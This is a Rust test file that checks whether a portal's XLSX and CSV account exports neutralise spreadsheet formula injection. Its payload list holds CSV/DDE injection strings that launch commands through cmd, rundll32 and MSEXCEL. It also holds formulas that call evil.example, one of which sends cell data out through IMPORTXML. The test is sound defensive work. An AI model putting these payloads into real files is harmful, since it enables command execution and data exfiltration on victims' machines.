//! No text that users type becomes a formula, a link or another row in an export.

use serde_json::json;

use super::World;
use super::rows::records;
use super::workbook::{self, Cell};
use crate::support::given::SINAR;
use crate::support::sql;

/// Returns texts that a spreadsheet might run, with every character that begins a formula or ends a row or cell.
fn hostile() -> Vec<String> {
    let begins = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", " ="];
    let bodies = [
        "1+1",
        "cmd|' /C calc'!A0",
        "HYPERLINK(\"http://evil.example\",\"Click\")",
        "SUM(A1:A9)",
        "IMPORTXML(CONCAT(\"http://evil.example?v=\",A1),\"//a\")",
        "DDE(\"cmd\";\"/C calc\";\"x\")",
        "1\",\"2",
        "1;2",
        "1\r\n=2",
        "1\n2,3",
        "<script>alert(1)</script>",
        "]]><f>1+1</f>",
        "_x0041_",
        "\u{202e}fdp",
        "'1",
        "\"1",
        "A&B<C>",
        "{=1}",
        "webservice(\"http://evil.example\")",
        "@SUM(1)",
        "-2+3",
        "+60123456789",
        "MSEXCEL|'\\..\\..\\x'!''",
        "rundll32|'URL.dll,OpenURL x'!A",
        "é漢字🙂",
    ];
    begins.iter().flat_map(|begin| bodies.iter().map(move |body| format!("{begin}{body}"))).collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_texts_stay_texts_in_every_field() {
    let world = World::new().await;
    let texts = hostile();
    assert_eq!(texts.len(), 300);
    crate::support::given::bills(world.portal.pool(), SINAR, 300, "100.10").await;
    // Written by SQL, because input checks are not the subject of this test.
    let query = "
        with numbered as (
            select account_no, row_number() over (order by account_no) as n
            from account_master where account_no like '21%'
        )
        update account_master m set premises_address = t.text, city = t.text, sector = t.text, tariff = t.text,
               company_name = t.text
        from numbered join unnest($1::text[]) with ordinality t (text, n) using (n)
        where m.account_no = numbered.account_no";
    sql::run(world.portal.pool(), query, &[&texts]).await;
    let request = json!({ "id": SINAR, "sort": { "by": "accountNo" } });
    let sheet = workbook::rows(&world.file_of("accounts", request.clone(), "xlsx").await, 1);
    let records = records(&world.file_of("accounts", request, "csv").await);
    let query = "select count(*) from electricity_account where bulk_id = $1";
    let accounts = usize::try_from(sql::value::<i64>(world.portal.pool(), query, &[&SINAR]).await).unwrap();
    // The header, the accounts, and in the workbook also the totals.
    assert_eq!((sheet.len(), records.len()), (accounts + 2, accounts + 1));
    let (mut cells, mut fields) = (0, 0);
    for (place, text) in texts.iter().enumerate() {
        let row = u32::try_from(place + 2).unwrap();
        for column in ["D", "E", "H", "I"] {
            assert!(
                matches!(&sheet[&row][column], Cell::Text(cell) if same(cell, text)),
                "{text:?} became {:?}",
                sheet[&row][column]
            );
            cells += 1;
        }
        assert!(sheet[&row].values().all(|cell| !matches!(cell, Cell::Formula { .. })));
        for field in [&records[place + 1][3], &records[place + 1][4]] {
            let first = text.chars().next().unwrap();
            let is_harmless = first == ' ' || field.starts_with('\'');
            assert!(
                is_harmless && field.trim_start_matches('\'') == text.trim_start_matches('\''),
                "{text:?} became {field:?}"
            );
            fields += 1;
        }
    }
    assert_eq!((cells, fields), (1_200, 600));
    let xml =
        workbook::part(&world.file_of("accounts", json!({ "id": SINAR }), "xlsx").await, "xl/worksheets/sheet1.xml");
    let xml = xml.unwrap();
    assert!(
        !xml.contains("<hyperlink") && xml.matches("<f>").count() == 1,
        "one total, and nothing else that calculates"
    );
}

/// Whether two texts are equal, apart from line ends that XML does not distinguish.
fn same(cell: &str, text: &str) -> bool {
    let ends = |text: &str| text.replace("\r\n", "\n").replace('\r', "\n");
    ends(cell) == ends(text) || ends(&cell.replace("_x005F", "")) == ends(text)
}
